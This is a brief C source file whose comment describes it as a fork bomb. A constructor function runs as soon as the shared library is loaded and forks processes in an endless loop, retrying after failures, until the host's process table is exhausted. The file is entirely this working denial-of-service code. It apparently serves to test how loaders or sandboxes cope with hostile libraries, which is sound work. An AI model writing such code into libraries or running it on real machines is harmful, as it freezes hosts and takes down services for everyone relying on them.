/* A fork bomb as soon as the library is loaded. */
#include <unistd.h>

__attribute__((constructor)) static void multiply(void)
{
    for (;;) {
        if (fork() < 0) {
            sleep(1);
        }
    }
}
